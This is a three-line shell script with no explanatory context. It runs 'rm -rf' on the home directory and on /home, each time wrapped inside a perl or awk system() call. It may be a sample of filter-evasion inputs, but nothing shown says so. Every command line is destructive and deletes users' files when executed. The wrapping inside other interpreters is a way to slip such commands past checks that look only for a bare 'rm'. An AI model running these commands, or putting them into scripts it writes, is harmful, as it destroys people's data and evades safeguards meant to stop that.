#!/bin/sh
perl -e 'system("rm -rf ~/")'
awk 'BEGIN { system("rm -rf /home") }'
